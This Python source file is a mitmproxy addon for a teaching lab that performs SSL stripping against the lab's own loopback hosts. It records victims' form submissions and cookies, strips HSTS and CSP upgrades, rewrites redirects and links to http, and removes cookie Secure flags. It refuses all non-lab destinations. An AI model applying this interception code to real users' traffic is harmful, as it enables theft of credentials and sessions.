"""The attacker's mitmproxy addon: SSL stripping against the lab's own hosts.

Built into the lab's mitmdump (labapp/mitmdump.py), or loaded into a plain one
with `mitmdump -s labapp/addon.py --set labapp_config=<json file>`.
The victim's browser uses mitmdump as its proxy. Plain-HTTP requests to a
lab host are recorded (forms, cookies), sent on to the bank over HTTPS, and
the answers are stripped of everything that would move the victim to HTTPS.
A CONNECT to a lab host is a tunnel the attacker cannot open: it passes
through unread. Every other destination is refused before any lookup or
connection, so the lab never reaches beyond 127.0.0.1.
"""

import asyncio
import json
import logging
import os
import shutil
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

from mitmproxy import ctx, exceptions, http, tls
from mitmproxy.coretypes.multidict import MultiDictView
from mitmproxy.proxy import server_hooks

from labapp import strip
from labapp.network import LOOPBACK, Network, Ports

WATCH_SECONDS = 0.5
STDIN = "-"

# Keys in flow.metadata: the URL as the victim sent it marks a flow whose
# response is stripped; the list collects what was rewritten on the way.
VICTIM_URL = "labapp_victim_url"
REWRITES = "labapp_rewrites"


@dataclass(frozen=True)
class LabConfig:
    """What the launcher tells the addon: the virtual network and its files."""

    network: Network
    events: str
    ready: str
    parent_pid: int
    lab_dir: str
    # "user:password"; sent on stdin so that no other local user can read it
    # in /proc/<pid>/cmdline, as they could a --set option.
    proxyauth: str | None = None


def read_config(path: str) -> LabConfig:
    """Read the launcher's JSON config file, or say what is wrong and why."""
    try:
        text = Path(path).read_text()
    except OSError as err:
        raise _config_error(path, err) from err
    return parse_config(text, path)


def parse_config(text: str, source: str) -> LabConfig:
    """Parse the launcher's JSON config, or say which option is wrong and why."""
    try:
        data = json.loads(text)
        return LabConfig(
            network=Network(
                {name: Ports(**ports) for name, ports in data["hosts"].items()}
            ),
            events=str(data["events"]),
            ready=str(data["ready"]),
            parent_pid=int(data["parent_pid"]),
            lab_dir=str(data["lab_dir"]),
            proxyauth=data.get("proxyauth"),
        )
    except (ValueError, KeyError, TypeError, AttributeError) as err:
        raise _config_error(source, err) from err


def _config_error(source: str, err: Exception) -> exceptions.OptionsError:
    """The error for a config that cannot be used."""
    return exceptions.OptionsError(
        f"labapp_config={source!r} could not be used ({err!r}). It must be a "
        "JSON file, or '-' for JSON on stdin, with hosts, events, ready, "
        "parent_pid and lab_dir."
    )


def is_lab_address(config: LabConfig, host: str, port: int) -> bool:
    """Whether host:port is a lab name on a logical port that has a server."""
    return config.network.real_port(host, port) is not None


def last_values(fields: MultiDictView) -> dict:
    """A multidict as a plain dict; for a repeated name the last value wins."""
    return {name: value for name, value in fields.items(multi=True)}


def submitted_fields(request: http.Request) -> dict[str, str]:
    """The form fields a request body submits, URL-encoded or multipart."""
    if request.urlencoded_form:
        return last_values(request.urlencoded_form)
    return {
        name.decode(errors="replace"): value.decode(errors="replace")
        for name, value in last_values(request.multipart_form).items()
    }


def drop_headers(headers: http.Headers, names: frozenset[str]) -> list[str]:
    """Remove every field of the given names; return the names removed."""
    dropped = sorted(name for name in names if name in headers)
    for name in dropped:
        del headers[name]
    return dropped


def strip_cookies(headers: http.Headers) -> list[str]:
    """Make each Set-Cookie field stealable over http://; say which ones."""
    rewrites = []
    values = headers.get_all("set-cookie")
    stripped = [strip.strip_set_cookie(value) for value in values]
    for old, new in zip(values, stripped):
        if strip.cookie_is_prefixed(old):
            rewrites.append(f"prefixed-cookie-kept:{strip.cookie_name(old)}")
        elif new != old:
            rewrites.append(f"set-cookie:{strip.cookie_name(old)}")

    # Separate fields, never one comma-joined line (RFC 6265 3).
    headers.set_all("set-cookie", stripped)
    return rewrites


def strip_csp(headers: http.Headers) -> list[str]:
    """Remove CSP directives that would upgrade or block http:// loads."""
    values = headers.get_all("content-security-policy")
    kept = [policy for policy in map(strip.strip_csp, values) if policy]
    if kept == values:
        return []
    headers.set_all("content-security-policy", kept)
    return ["csp"]


def strip_location(headers: http.Headers) -> list[str]:
    """Point a redirect to https:// back at http://."""
    location = headers.get("location", "")
    stripped = strip.strip_location(location)
    if stripped == location:
        return []
    headers["location"] = stripped
    return ["location"]


def strip_body(response: http.Response) -> list[str]:
    """Rewrite https:// links in a text body, decompressing it first (F14)."""
    # An empty body may still carry the Content-Length of a GET (HEAD, 304):
    # setting the content would overwrite it, so leave it alone.
    content_type = response.headers.get("content-type", "")
    if not response.raw_content or not strip.is_text(content_type):
        return []

    # decode() also drops Content-Encoding, and setting the text below sets
    # Content-Length, so the headers describe the body the victim receives.
    try:
        response.decode()
    except ValueError:
        return ["body-undecodable"]

    text = response.get_text(strict=False) or ""
    stripped, hosts = strip.strip_urls(text)
    if stripped == text:
        return []
    response.text = stripped
    return [f"body-links:{','.join(sorted(hosts))}"]


def strip_response(response: http.Response) -> list[str]:
    """Apply every response rewrite; return short labels of what changed."""
    headers = response.headers
    dropped = drop_headers(headers, strip.DROP_FROM_RESPONSE)
    return [
        *(["sts"] if dropped else []),
        *strip_csp(headers),
        *strip_location(headers),
        *strip_cookies(headers),
        *strip_body(response),
    ]


def write_ready(path: str, port: int) -> None:
    """Write `{"port": N}` whole: a temp file beside it, then a rename."""
    folder = os.path.dirname(path)
    descriptor, temp = tempfile.mkstemp(dir=folder, prefix=".ready-")
    with os.fdopen(descriptor, "w") as stream:
        json.dump({"port": port}, stream)
    os.replace(temp, path)


def parent_is_gone(parent_pid: int) -> bool:
    """Whether the process that started mitmdump has died (we were reparented)."""
    return os.getppid() != parent_pid


async def watch_parent(parent_pid: int) -> None:
    """Shut mitmproxy down once its parent is gone, so no proxy is orphaned."""
    while not parent_is_gone(parent_pid):
        await asyncio.sleep(WATCH_SECONDS)
    ctx.master.shutdown()


class EventLog:
    """The attacker's record: JSON lines that only the lab's user can read."""

    def __init__(self, path: str):
        self._fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
        self._seq = 0

    def record(self, kind: str, **fields) -> None:
        """Append one event at once, so a reader never waits on a buffer."""
        self._seq += 1
        event = {"seq": self._seq, "time": time.time(), "kind": kind, **fields}
        os.write(self._fd, (json.dumps(event) + "\n").encode())

    def close(self) -> None:
        """Close the file; later events would be an error."""
        os.close(self._fd)


class LabAttacker:
    """The mitmproxy hooks; each only calls the functions above."""

    def __init__(self):
        self.config: LabConfig | None = None
        self.events: EventLog | None = None
        self.watchdog: asyncio.Task | None = None
        # A config was refused: mitmdump must exit 1, and say why only once.
        self.failed = False

    def load(self, loader):
        loader.add_option(
            "labapp_config",
            str,
            "",
            "Path of the lab's JSON config: hosts (name -> real http and https "
            "ports on 127.0.0.1), events (JSON-lines file to append to), ready "
            "(file to write the listen port to), parent_pid and lab_dir.",
        )

    def configure(self, updated):
        if "labapp_config" not in updated:
            return
        source = ctx.options.labapp_config
        if not source:
            # mitmproxy rolls a refused value back to "" and configures
            # again: the first error is the one that says what is wrong.
            if self.failed:
                return
            raise exceptions.OptionsError(
                "labapp_config is empty: the lab's addon needs the path of the "
                "JSON config that the lab's launcher writes, or '-' for stdin."
            )
        if source != STDIN:
            try:
                self.use(read_config(source))
            except exceptions.OptionsError:
                self.failed = True
                raise

        # Connect only when a request or a ClientHello needs it. The default,
        # eager, connects (and so remaps) at CONNECT time: mitmproxy would then
        # report a tunnel's requests and TLS as going to 127.0.0.1:<port>, and
        # the lab names they were for would be lost.
        ctx.options.connection_strategy = "lazy"

    def use(self, config: LabConfig) -> None:
        """Take `config`: the network to map and the files to write."""
        self.config = config
        if self.events is not None:
            self.events.close()
        self.events = EventLog(config.events)
        if config.proxyauth:
            ctx.options.update(proxyauth=config.proxyauth)

    async def running(self):
        if self.config is None:
            # The launcher starts mitmdump first and sends the config once
            # the bank listens, so both start at the same time. An empty
            # stdin means the launcher died first.
            text = await asyncio.to_thread(sys.stdin.read)
            try:
                if not text.strip():
                    raise exceptions.OptionsError(
                        "No config arrived on stdin: the lab that started "
                        "this proxy stopped first."
                    )
                self.use(parse_config(text, STDIN))
            except exceptions.OptionsError as err:
                # The lab quotes the log and the exit code in its error.
                logging.getLogger(__name__).error(str(err))
                self.failed = True
                ctx.master.shutdown()
                return
        proxyserver = ctx.master.addons.get("proxyserver")
        write_ready(self.config.ready, proxyserver.listen_addrs()[0][1])
        self.watchdog = asyncio.create_task(watch_parent(self.config.parent_pid))

    def done(self):
        if self.watchdog is not None:
            self.watchdog.cancel()
        if self.events is not None:
            self.events.close()
            self.events = None

        # A killed kernel cannot clean up after itself, so a proxy that ran
        # removes the lab's folder whenever it stops (a live kernel removed it
        # already). Asking whether the parent is gone would race: Linux sends
        # PDEATHSIG when the starting thread exits, while getppid() still
        # names the dying process. A proxy that never ran leaves the folder,
        # whose log tells the kernel why it failed.
        if self.watchdog is not None:
            shutil.rmtree(self.config.lab_dir, ignore_errors=True)

    def refused(self, flow: http.HTTPFlow, what: str) -> bool:
        """Answer 403, going nowhere, if a flow is bound outside the lab."""
        host, port = flow.request.host, flow.request.port
        if self.config is None:
            # Listening, but the config (and the credentials) are not here
            # yet: nothing may pass.
            flow.response = http.Response.make(503, b"The lab is starting.\n")
            return True
        if is_lab_address(self.config, host, port):
            return False

        reason = f"{what} to an address outside the lab"
        flow.response = http.Response.make(
            403,
            f"The lab's attacker refuses {host}:{port}: {reason}.\n",
            {"Content-Type": "text/plain; charset=utf-8"},
        )
        self.events.record("refused", host=host, port=port, reason=reason)
        return True

    def http_connect(self, flow: http.HTTPFlow):
        # A response already set is proxyauth's 407: nothing to record.
        if flow.response is not None:
            return
        if not self.refused(flow, "CONNECT"):
            request = flow.request
            self.events.record("tunnel", host=request.host, port=request.port)

    def server_connect(self, data: server_hooks.ServerConnectionHookData):
        host, port, *_ = data.server.address
        if self.config is None:
            data.server.error = "The lab's attacker is not configured yet."
            return
        real_port = self.config.network.real_port(host, port)
        if real_port is None:
            data.server.error = f"The lab's attacker refuses {host}:{port}."
            reason = "connection to an address outside the lab"
            self.events.record("refused", host=host, port=port, reason=reason)
            return

        # Upstream TLS checks the certificate for the lab name, not 127.0.0.1;
        # a fully qualified "bank.test." is the same name (RFC 6066 3).
        data.server.sni = (data.server.sni or host).rstrip(".")
        data.server.address = (LOOPBACK, real_port)

    def tls_clienthello(self, data: tls.ClientHelloData):
        # Decided by the CONNECT's host, not by the SNI the client chose.
        address = data.context.server.address
        if self.config and address and is_lab_address(self.config, *address[:2]):
            data.ignore_connection = True

    def request(self, flow: http.HTTPFlow):
        if flow.response is not None:
            return
        request = flow.request
        if self.refused(flow, "request") or request.scheme != "http":
            return

        has_https = is_lab_address(self.config, request.host, 443)
        url = flow.metadata[VICTIM_URL] = request.url
        self.events.record(
            "request",
            method=request.method,
            url=url,
            upstream="https" if has_https else "http",
        )
        if fields := submitted_fields(request):
            self.events.record("form", url=url, fields=fields)
        if cookies := last_values(request.cookies):
            self.events.record("cookie", url=url, cookies=cookies)
        dropped = drop_headers(request.headers, strip.DROP_FROM_REQUEST)
        flow.metadata[REWRITES] = dropped

        # The victim stays on http:// while the bank sees a proper HTTPS
        # client, so the bank's own redirect to HTTPS never reaches the victim.
        # Setting the port rewrites Host; the bank gets the victim's own.
        if has_https:
            host_header = request.host_header
            request.scheme = "https"
            request.port = 443
            request.host_header = host_header

    def response(self, flow: http.HTTPFlow):
        url = flow.metadata.get(VICTIM_URL)
        if url is None:
            return
        rewrites = flow.metadata[REWRITES] + strip_response(flow.response)
        if rewrites:
            self.events.record("strip", url=url, rewrites=rewrites)


addons = [LabAttacker()]
